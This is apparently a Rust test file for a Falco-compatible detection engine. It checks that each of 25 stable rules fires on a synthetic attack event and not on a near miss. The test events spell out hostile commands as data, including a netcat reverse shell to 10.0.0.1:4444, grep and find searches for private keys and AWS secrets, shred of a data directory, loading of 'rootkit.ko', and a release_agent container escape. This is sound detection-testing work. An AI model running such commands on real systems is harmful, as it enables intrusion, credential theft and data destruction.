//! The stable ruleset (falcosecurity/rules falco_rules.yaml) loads cleanly with every field it
//! uses provided, the incubating and sandbox files load on their own and after it, and each of
//! the 25 stable rules fires on a hand-built event that should trigger it and not on a near miss.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "test code: a failed expectation is a test failure"
)]

use rampart_falco::event::{
    Container, Event, Fd, FdKind, L4Proto, Process, cap_bit, open_flags_str,
};
use rampart_falco::{Loader, RuleSet};
use rampart_testkit::paths::corpus;
use std::collections::BTreeSet;
use std::sync::Arc;
use std::sync::OnceLock;

fn text(name: &str) -> String {
    std::fs::read_to_string(corpus(&format!("falco-rules/rules/{name}"))).expect("rules file")
}

fn stable() -> &'static RuleSet {
    static RS: OnceLock<RuleSet> = OnceLock::new();
    RS.get_or_init(|| {
        let mut l = Loader::new();
        l.load("falco_rules.yaml", &text("falco_rules.yaml"));
        l.finish().expect("stable ruleset loads")
    })
}

#[test]
fn stable_ruleset_loads_without_errors_warnings_or_unsupported_fields() {
    let mut l = Loader::new();
    let r = l
        .load("falco_rules.yaml", &text("falco_rules.yaml"))
        .clone();
    assert!(r.successful, "{:#?}", r.errors);
    assert!(r.warnings.is_empty(), "{:#?}", r.warnings);
    let rs = l.finish().expect("loads");
    assert_eq!(rs.rules().len(), 25);
    assert_eq!(rs.not_evaluable().count(), 0);
    assert_eq!(rs.required_engine_version(), Some("0.57.0"));
    // Every field the conditions read (macros expanded) and every output field is provided.
    let cond_fields: BTreeSet<String> = rs
        .rules()
        .iter()
        .flat_map(|r| r.fields.iter().cloned())
        .collect();
    let out_fields: BTreeSet<String> = rs
        .rules()
        .iter()
        .flat_map(|r| {
            r.output
                .fields()
                .map(|(_, t)| t.to_owned())
                .collect::<Vec<_>>()
        })
        .collect();
    let unsupported: Vec<&str> = rs
        .rules()
        .iter()
        .flat_map(|r| r.output.unsupported())
        .collect();
    assert!(
        unsupported.is_empty(),
        "output fields not provided: {unsupported:?}"
    );
    let base = |f: &String| f.split(['[']).next().unwrap_or(f).to_owned();
    let cond_names: BTreeSet<String> = cond_fields.iter().map(base).collect();
    let out_only: BTreeSet<String> = out_fields
        .iter()
        .map(base)
        .filter(|f| !cond_names.contains(f))
        .collect();
    assert!(cond_names.len() >= 40, "{cond_names:?}");
    assert!(out_only.len() >= 10, "{out_only:?}");
    // Every rule is indexed by the event types it can match; none matches all types.
    let et = rs.event_types();
    assert!(!et.all(), "{:?}", et.unconstrained_rules);
    for t in [
        "execve",
        "execveat",
        "open",
        "openat",
        "openat2",
        "connect",
        "ptrace",
        "symlinkat",
        "linkat",
        "dup2",
        "finit_module",
        "socket",
    ] {
        assert!(et.types.contains(t), "{t} missing from {:?}", et.types);
    }
}

#[test]
fn dns_names_to_resolve_are_listed() {
    let names: Vec<String> = stable().dns_names().into_iter().collect();
    assert_eq!(names, ["kubernetes.default.svc.cluster.local"]);
}

#[test]
fn incubating_and_sandbox_load_alone_and_after_stable() {
    for extra in ["falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] {
        for with_stable in [false, true] {
            let mut l = Loader::new();
            if with_stable {
                l.load("falco_rules.yaml", &text("falco_rules.yaml"));
            }
            let r = l.load(extra, &text(extra)).clone();
            assert!(
                r.successful,
                "{extra} (after stable: {with_stable}): {:#?}",
                r.errors
            );
            let rs = l.finish().expect("loads");
            assert_eq!(rs.not_evaluable().count(), 0, "{extra}");
            assert!(!rs.rules().is_empty());
        }
    }
}

const CID: &str = "3ad7b26ded6d";

fn process(name: &str, exepath: &str, args: &[&str]) -> Process {
    Process {
        pid: 4242,
        vpid: Some(42),
        name: name.to_owned(),
        exe: exepath.to_owned(),
        exepath: exepath.to_owned(),
        args: args.iter().map(|s| (*s).to_owned()).collect(),
        cwd: Some("/".to_owned()),
        uid: Some(0),
        gid: Some(0),
        loginuid: Some(-1),
        user_name: Some("root".to_owned()),
        group_name: Some("root".to_owned()),
        cap_effective: Some(0),
        cap_permitted: Some(0),
        start_ns: Some(1_700_000_000_000_000_000),
        is_exe_upper_layer: Some(false),
        is_exe_from_memfd: Some(false),
        ..Process::default()
    }
}

fn parent(name: &str) -> Process {
    process(name, &format!("/usr/bin/{name}"), &[])
}

fn container() -> Container {
    Container {
        id: CID.to_owned(),
        name: Some("web".to_owned()),
        image: Some("docker.io/library/alpine:3.20".to_owned()),
        image_repository: Some("docker.io/library/alpine".to_owned()),
        image_tag: Some("3.20".to_owned()),
        privileged: Some(false),
        ..Container::default()
    }
}

fn event(ty: &str, p: Process, parents: &[&str], in_container: bool) -> Event {
    Event {
        num: 7,
        time_ns: 1_700_000_100_000_000_000,
        evt_type: ty.to_owned().into(),
        res: Some(0),
        proc: p.into(),
        ancestors: parents.iter().map(|n| Arc::new(parent(n))).collect(),
        container: in_container.then(|| Arc::new(container())),
        ..Event::default()
    }
}

fn exec(name: &str, args: &[&str], parents: &[&str], in_container: bool) -> Event {
    event(
        "execve",
        process(name, &format!("/usr/bin/{name}"), args),
        parents,
        in_container,
    )
}

fn open(name: &str, path: &str, flags: u32, in_container: bool) -> Event {
    let mut e = event(
        "openat",
        process(name, &format!("/usr/bin/{name}"), &[]),
        &["bash"],
        in_container,
    );
    e.res = Some(3);
    e.open_flags = Some(flags);
    e.set_arg("flags", open_flags_str(flags));
    e.set_arg("name", path);
    e.fd = Some(Fd::file(3, path));
    e
}

const O_RDONLY: u32 = 0;
const O_WRONLY: u32 = 1;
const O_CREAT: u32 = 0o100;
const O_TRUNC: u32 = 0o1000;
const O_APPEND: u32 = 0o2000;

fn fired(ev: &Event) -> Vec<&'static str> {
    stable()
        .evaluate(ev)
        .map(|m| m.rule.name.as_str())
        .collect()
}

fn check(rule: &str, positive: Event, near_miss: Event) {
    assert!(stable().rule(rule).is_some(), "no rule {rule}");
    let p = fired(&positive);
    assert!(
        p.contains(&rule),
        "{rule}: did not fire on its positive event (fired {p:?})"
    );
    let n = fired(&near_miss);
    assert!(!n.contains(&rule), "{rule}: fired on its near miss");
    // The evt.type index agrees with evaluating the rule's condition directly.
    let r = stable().rule(rule).expect("rule");
    assert!(r.matches(&positive) && !r.matches(&near_miss));
}

#[test]
fn directory_traversal_monitored_file_read() {
    let mk = |parent: &str| {
        let mut e = open("python3", "/etc/shadow", O_RDONLY, false);
        e.ancestors = vec![Arc::new(self::parent(parent))];
        if let Some(fd) = e.fd.as_mut() {
            fd.name_raw = Some("/srv/app/../../etc/shadow".into());
        }
        e
    };
    check(
        "Directory traversal monitored file read",
        mk("python3"),
        mk("bash"),
    );
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    let mk = |age_s: u64| {
        let mut e = open("nginx", "/etc/shadow", O_RDONLY, false);
        Arc::make_mut(&mut e.proc).start_ns = Some(e.time_ns - age_s * 1_000_000_000);
        e
    };
    check("Read sensitive file trusted after startup", mk(60), mk(1));
}

#[test]
fn read_sensitive_file_untrusted() {
    check(
        "Read sensitive file untrusted",
        open("python3", "/etc/shadow", O_RDONLY, false),
        open("python3", "/etc/hosts", O_RDONLY, false),
    );
}

#[test]
fn run_shell_untrusted() {
    check(
        "Run shell untrusted",
        exec("bash", &["-c", "id"], &["nginx", "systemd"], false),
        exec("bash", &["-c", "id"], &["sshd", "systemd"], false),
    );
}

#[test]
fn system_user_interactive() {
    let mk = |user: &str| {
        let mut e = exec("bash", &[], &["sshd"], false);
        Arc::make_mut(&mut e.proc).user_name = Some(user.into());
        e
    };
    check("System user interactive", mk("www-data"), mk("alice"));
}

#[test]
fn terminal_shell_in_container() {
    let mk = |tty: u32| {
        let mut e = exec("bash", &[], &["runc:[1:CHILD]"], true);
        Arc::make_mut(&mut e.proc).tty = tty;
        e
    };
    check("Terminal shell in container", mk(34816), mk(0));
    // On the host it does not fire.
    let mut host = exec("bash", &[], &["runc:[1:CHILD]"], false);
    Arc::make_mut(&mut host.proc).tty = 34816;
    assert!(!fired(&host).contains(&"Terminal shell in container"));
}

fn connect(exe: &str, server: (&str, u16), sip_name: Option<&str>) -> Event {
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let mut e = event("connect", process(name, exe, &[]), &["bash"], true);
    let mut fd = Fd::ip_socket(
        3,
        ("172.17.0.2".parse().expect("ip"), 40000),
        (server.0.parse().expect("ip"), server.1),
        L4Proto::Tcp,
        false,
    );
    fd.sip_name = sip_name.map(str::to_owned);
    e.fd = Some(fd);
    e
}

#[test]
fn contact_k8s_api_server_from_container() {
    check(
        "Contact K8S API Server From Container",
        connect(
            "/usr/bin/curl",
            ("10.96.0.1", 443),
            Some("kubernetes.default.svc.cluster.local"),
        ),
        connect("/usr/bin/curl", ("10.96.0.1", 443), Some("example.com")),
    );
}

#[test]
fn netcat_remote_code_execution_in_container() {
    check(
        "Netcat Remote Code Execution in Container",
        exec(
            "nc",
            &["-e", "/bin/sh", "10.0.0.1", "4444"],
            &["bash"],
            true,
        ),
        exec("nc", &["-l", "4444"], &["bash"], true),
    );
}

#[test]
fn search_private_keys_or_passwords() {
    check(
        "Search Private Keys or Passwords",
        exec("find", &["/", "-name", "id_rsa"], &["bash"], false),
        exec("find", &["/", "-name", "notes.txt"], &["bash"], false),
    );
    let grep = exec(
        "grep",
        &["-r", "BEGIN RSA PRIVATE", "/home"],
        &["bash"],
        false,
    );
    assert!(fired(&grep).contains(&"Search Private Keys or Passwords"));
}

#[test]
fn clear_log_activities() {
    check(
        "Clear Log Activities",
        open(
            "python3",
            "/var/log/syslog",
            O_WRONLY | O_CREAT | O_TRUNC,
            false,
        ),
        open("python3", "/var/log/syslog", O_WRONLY | O_APPEND, false),
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    check(
        "Remove Bulk Data from Disk",
        exec("shred", &["-u", "/data/db"], &["bash"], false),
        exec("rm", &["-rf", "/data/db"], &["bash"], false),
    );
}

#[test]
fn create_symlink_over_sensitive_files() {
    let mk = |target: &str| {
        let mut e = event(
            "symlinkat",
            process("ln", "/usr/bin/ln", &["-s", target, "/tmp/x"]),
            &["bash"],
            false,
        );
        e.set_arg("target", target);
        e.set_arg("linkpath", "/tmp/x");
        e
    };
    check(
        "Create Symlink Over Sensitive Files",
        mk("/etc/shadow"),
        mk("/tmp/notes"),
    );
    assert!(fired(&mk("/root")).contains(&"Create Symlink Over Sensitive Files"));
}

#[test]
fn create_hardlink_over_sensitive_files() {
    let mk = |old: &str| {
        let mut e = event(
            "linkat",
            process("ln", "/usr/bin/ln", &[old, "/tmp/x"]),
            &["bash"],
            false,
        );
        e.set_arg("oldpath", old);
        e.set_arg("newpath", "/tmp/x");
        e
    };
    check(
        "Create Hardlink Over Sensitive Files",
        mk("/etc/shadow"),
        mk("/tmp/a"),
    );
}

#[test]
fn packet_socket_created_in_container() {
    let mk = |domain: &str| {
        let mut e = event(
            "socket",
            process("tcpdump", "/usr/bin/tcpdump", &[]),
            &["bash"],
            true,
        );
        e.set_arg("domain", domain);
        e
    };
    check(
        "Packet socket created in container",
        mk("AF_PACKET"),
        mk("AF_INET"),
    );
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    let mk = |kind: FdKind| {
        let mut e = event(
            "dup2",
            process("bash", "/bin/bash", &["-i"]),
            &["bash"],
            true,
        );
        e.res = Some(1);
        let mut fd = Fd::ip_socket(
            3,
            ("172.17.0.2".parse().expect("ip"), 40000),
            ("10.0.0.9".parse().expect("ip"), 4444),
            L4Proto::Tcp,
            false,
        );
        fd.kind = kind;
        e.fd = Some(fd);
        e
    };
    check(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        mk(FdKind::Ipv4),
        mk(FdKind::Pipe),
    );
}

#[test]
fn linux_kernel_module_injection_detected() {
    let mk = |caps: u64| {
        let mut e = event(
            "finit_module",
            process("insmod", "/usr/sbin/insmod", &["rootkit.ko"]),
            &["bash"],
            true,
        );
        Arc::make_mut(&mut e.proc).cap_effective = Some(caps);
        e
    };
    let sys_module = 1u64 << cap_bit("CAP_SYS_MODULE").expect("cap");
    check(
        "Linux Kernel Module Injection Detected",
        mk(sys_module),
        mk(0),
    );
}

#[test]
fn debugfs_launched_in_privileged_container() {
    let mk = |privileged: bool| {
        let mut e = exec("debugfs", &["/dev/sda1"], &["bash"], true);
        if let Some(c) = e.container.as_mut() {
            Arc::make_mut(c).privileged = Some(privileged);
        }
        e
    };
    check(
        "Debugfs Launched in Privileged Container",
        mk(true),
        mk(false),
    );
}

#[test]
fn detect_release_agent_file_container_escapes() {
    let mk = |caps: &[&str]| {
        let mut e = open(
            "sh",
            "/sys/fs/cgroup/rdma/release_agent",
            O_WRONLY | O_TRUNC,
            true,
        );
        Arc::make_mut(&mut e.proc).cap_effective =
            Some(caps.iter().map(|c| 1u64 << cap_bit(c).expect("cap")).sum());
        e
    };
    check(
        "Detect release_agent File Container Escapes",
        mk(&["CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN"]),
        mk(&["CAP_DAC_OVERRIDE"]),
    );
}

fn ptrace(request: &str) -> Event {
    let mut e = event(
        "ptrace",
        process("gdb", "/usr/bin/gdb", &["-p", "1"]),
        &["bash"],
        false,
    );
    e.set_arg("request", request);
    e.set_arg("pid", "1");
    e
}

#[test]
fn ptrace_attached_to_process() {
    check(
        "PTRACE attached to process",
        ptrace("PTRACE_ATTACH"),
        ptrace("PTRACE_PEEKDATA"),
    );
}

#[test]
fn ptrace_anti_debug_attempt() {
    check(
        "PTRACE anti-debug attempt",
        ptrace("PTRACE_TRACEME"),
        ptrace("PTRACE_ATTACH"),
    );
}

#[test]
fn find_aws_credentials() {
    check(
        "Find AWS Credentials",
        exec(
            "grep",
            &["-r", "aws_secret_access_key", "/home"],
            &["bash"],
            false,
        ),
        exec("grep", &["-r", "hello", "/home"], &["bash"], false),
    );
}

#[test]
fn execution_from_dev_shm() {
    let mk = |exe: &str| {
        let mut e = exec("x", &[], &["bash"], true);
        Arc::make_mut(&mut e.proc).exe = exe.into();
        Arc::make_mut(&mut e.proc).exepath = exe.into();
        e
    };
    check(
        "Execution from /dev/shm",
        mk("/dev/shm/x"),
        mk("/usr/local/bin/x"),
    );
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let mk = |upper: bool| {
        let mut e = exec("payload", &[], &["bash"], true);
        Arc::make_mut(&mut e.proc).is_exe_upper_layer = Some(upper);
        e
    };
    check(
        "Drop and execute new binary in container",
        mk(true),
        mk(false),
    );
    // On the host, not a container: no alert.
    let mut host = mk(true);
    host.container = None;
    assert!(!fired(&host).contains(&"Drop and execute new binary in container"));
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    check(
        "Disallowed SSH Connection Non Standard Port",
        connect("/usr/bin/ssh", ("93.184.216.34", 443), None),
        connect("/usr/bin/ssh", ("93.184.216.34", 22), None),
    );
    // Private destinations are not outbound.
    assert!(
        !fired(&connect("/usr/bin/ssh", ("10.1.2.3", 443), None))
            .contains(&"Disallowed SSH Connection Non Standard Port")
    );
}

#[test]
fn fileless_execution_via_memfd_create() {
    let mk = |name: &str| {
        let mut e = exec(name, &[], &["bash"], true);
        Arc::make_mut(&mut e.proc).is_exe_from_memfd = Some(true);
        Arc::make_mut(&mut e.proc).exepath = "memfd:payload".into();
        e
    };
    check(
        "Fileless execution via memfd_create",
        mk("payload"),
        mk("runc"),
    );
}

#[test]
fn every_stable_rule_has_an_evaluation_test() {
    let this = include_str!("stable_rules.rs");
    for r in stable().rules() {
        assert!(
            this.contains(&format!("\"{}\"", r.name)),
            "no test for {}",
            r.name
        );
    }
}
